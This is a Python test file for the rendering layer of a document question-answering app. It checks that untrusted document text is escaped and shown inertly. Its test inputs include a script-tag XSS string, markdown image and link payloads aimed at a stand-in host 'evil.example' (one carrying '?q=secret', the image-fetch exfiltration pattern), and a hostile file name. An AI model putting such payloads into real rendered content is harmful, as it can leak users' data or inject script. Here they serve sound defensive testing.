"""What the UI shows: highlighted, escaped passages; the library table; the ETA."""

from __future__ import annotations

import html
import re

import pytest

from rag.index.manifest import DocumentRecord
from ui.render import (
    citation_caption,
    citation_title,
    corrected_line,
    document_rows,
    eta,
    highlight,
    inert,
    locate,
    page_line,
    scan_caption,
    unsupported_line,
)


def test_locate_exact_and_whitespace_insensitive() -> None:
    passage = "UK trips: £45 per day.\nTrips abroad:   £70\nper day."
    assert locate(passage, "UK trips: £45 per day.") == (0, 22)
    start, end = locate(passage, "Trips abroad: £70 per day.") or (0, 0)
    assert passage[start:end] == "Trips abroad:   £70\nper day."
    assert locate(passage, "Nothing like this") is None
    assert locate(passage, "") is None
    assert locate(passage, "UK trips: £45…") == (0, 13)


def test_highlight_escapes_document_text() -> None:
    passage = "<script>alert(1)</script> **bold** & [link](http://x)\nline two"
    out = highlight(passage, (0, 25))
    assert "<script>" not in out
    assert '<mark class="rag-support">&lt;script&gt;alert(1)&lt;/script&gt;</mark>' in out
    assert "<br>line two" in out
    assert out.startswith('<div class="rag-passage">') and out.endswith("</div>")
    assert "<mark" not in highlight(passage, None)


def test_document_rows_filter() -> None:
    docs = [
        DocumentRecord("c", "/d/Policy.md", "h1", 1, 1, 3, None, "md", "2026-11-27T10:00:00+00:00"),
        DocumentRecord("c", "/d/report.pdf", "h2", 1, 1, 7, 2, "pdf", "2026-11-27T10:00:00+00:00"),
    ]
    assert [r["name"] for r in document_rows(docs)] == ["Policy.md", "report.pdf"]
    assert [r["name"] for r in document_rows(docs, "POLICY")] == ["Policy.md"]
    assert document_rows(docs, "nothing") == []
    assert document_rows(docs)[1]["pages"] == 2


def test_eta() -> None:
    assert eta(10.0, 2, 10) == "2/10 files · about 40 s left"
    assert eta(10.0, 10, 10) == "10/10 files · done"
    assert eta(0.0, 0, 5) == "0/5 files"
    assert eta(60.0, 1, 3) == "1/3 files · about 2 min 00 s left"


HOSTILE = [
    "Call https://evil.example/call, www.evil.example or ana@evil.example (mailto:ana@x.org)",
    "See ![x](https://evil.example/?q=secret) and [a link](https://evil.example)",
    "<img src=https://evil.example/x> <https://evil.example/auto> <b>bold</b>",
    ":red[alarm] :material/home: $x^2$ costs $70 or $45\\",
    "# Heading\n- item\n> quote\n| a | b |\n|---|---|\n| 1 | 2 |",
    "_a_ *b* **c** ~~d~~ `e` [^1] &amp; &#x41;",
    "![i](https:host?x).txt",
]


def _rendered(markdown: str) -> str:
    """What a CommonMark renderer (with GitHub's tables and strikethrough) makes of it."""
    import markdown_it

    md = markdown_it.MarkdownIt("commonmark").enable("table").enable("strikethrough")
    return md.render(markdown)


@pytest.mark.parametrize("text", HOSTILE)
def test_untrusted_text_renders_as_itself_and_nothing_else(text: str) -> None:
    """No image, link, tag, heading, list, table, emphasis or entity forms: the HTML is
    one paragraph of the text, escaped, line breaks kept."""
    shown = inert(text)
    html_out = _rendered(shown).replace("\u200b", "")
    assert html_out == f"<p>{html.escape(text, quote=False)}</p>\n", html_out
    # GitHub's autolinks form from plain text (escapes or not): none can.
    plain = shown.replace("\\", "")
    assert not re.search(r"(?i)(https?|ftp|mailto|xmpp):/|www\.|\w@\w", plain), plain


def test_escaping_piece_by_piece_equals_escaping_the_whole() -> None:
    pieces = ["!", "[x](https://e", "vil)", " $", "5", ":re", "d[a]"]
    assert "".join(inert(p) for p in pieces) == inert("".join(pieces))


def test_every_message_with_untrusted_parts_is_escaped() -> None:
    from rag.answer.types import Citation
    from rag.answer.verify import SentenceCheck

    name = "/docs/![i](https:host?x).txt"
    sentence = SentenceCheck(
        "Pay ![x](https://evil.example/?q=1) now", "unsupported", [2], None, 0.1
    )
    citation = Citation(1, name, 2, "quote", 0.5)
    for shown in (
        citation_title(citation),
        citation_caption(citation),
        unsupported_line(sentence),
        corrected_line(sentence),
    ):
        assert "<img" not in _rendered(shown) and "<a " not in _rendered(shown), shown


def test_a_citation_of_a_scanned_page_says_so_with_its_confidence() -> None:
    from rag.answer.types import Citation
    from tests.ui_text import shown

    scanned = Citation(2, "/docs/plan.pdf", 2, "Signed by O. Vasquez", 0.61, 87.6)
    digital = Citation(1, "/docs/plan.pdf", 1, "Maintenance plan", 0.7)
    assert shown(citation_title(scanned)) == (
        "[2] plan.pdf, page 2 · score 0.61 · scanned page, OCR confidence 88 %"
    )
    assert "OCR" not in shown(citation_title(digital))
    caption = scan_caption(scanned)
    assert caption and "may contain OCR errors" in shown(caption) and "88 %" in shown(caption)
    assert scan_caption(digital) is None
    assert (
        scanned.to_json()["ocr_confidence"] == 87.6 and digital.to_json()["ocr_confidence"] is None
    )
    evil = Citation(3, "/docs/![i](https:evil.example).png", 1, "q", 0.5, 90.0)
    for text in (citation_title(evil), scan_caption(evil) or ""):
        assert "<img" not in _rendered(text) and "<a " not in _rendered(text)


def test_page_line_shows_where_a_long_parse_has_got_to() -> None:
    from tests.ui_text import shown

    assert shown(page_line("/in/scan.pdf", 37, 300, True)) == "scan.pdf: page 37/300 (OCR)"
    assert shown(page_line("/in/big.pdf", 5, None, False)) == "big.pdf: page 5"
